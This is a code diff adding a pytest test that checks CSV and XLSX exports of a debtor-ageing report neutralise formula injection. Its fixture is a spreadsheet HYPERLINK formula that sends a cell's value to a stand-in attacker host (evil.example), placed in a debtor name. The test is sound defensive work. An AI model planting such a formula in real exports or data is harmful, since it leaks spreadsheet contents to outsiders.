@@ -165,3 +165,20 @@ def test_bad_bucket_spec_is_refused_with_the_reason(acme):
 def test_missing_exchange_rate_is_a_clear_error(acme):
     with pytest.raises(CommandError, match="no exchange rate into EUR for JPY"):
         ageing("--in-company-currency")
+
+
+def test_csv_and_xlsx_neutralise_a_debtor_name_that_is_a_formula(acme, tmp_path):
+    phish = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    factories.item(factories.debtor(acme, code="+EVIL", name=phish), due=ago(5), amount=10_00)
+    ageing("--csv", str(tmp_path / "a.csv"), "--xlsx", str(tmp_path / "a.xlsx"))
+    rows = list(csv.DictReader((tmp_path / "a.csv").open()))
+    evil = next(r for r in rows if r["debtor"] == "'+EVIL")
+    assert (evil["name"], evil["total"]) == ("'" + phish, "10.00")
+    cells = [
+        (c.value, c.data_type)
+        for row in load_workbook(tmp_path / "a.xlsx").active.iter_rows(min_row=2)
+        for c in row[:2]
+        if row[0].value == "'+EVIL"
+    ]
+    assert cells == [("'+EVIL", "s"), ("'" + phish, "s")]
+    assert "=HYPERLINK" in ageing()  # the terminal shows the name as it is
